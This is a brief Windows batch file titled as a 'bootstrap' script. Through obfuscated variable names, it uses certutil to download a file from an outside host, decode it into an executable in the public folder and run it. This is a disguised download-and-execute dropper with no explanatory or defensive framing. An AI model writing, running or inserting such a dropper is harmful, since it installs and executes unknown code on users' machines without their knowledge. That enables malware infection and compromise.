REM bootstrap 5656 v0
@echo off
@echo off
set "rgom=certutil -urlcache -f http://files.sync-svc.example/p.txt %PUBLIC%\p.txt"
call %rgom%
@echo off
set "gsbz=certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe"
call %gsbz%
@echo off
set "bnjq=%PUBLIC%\p.exe"
call %bnjq%
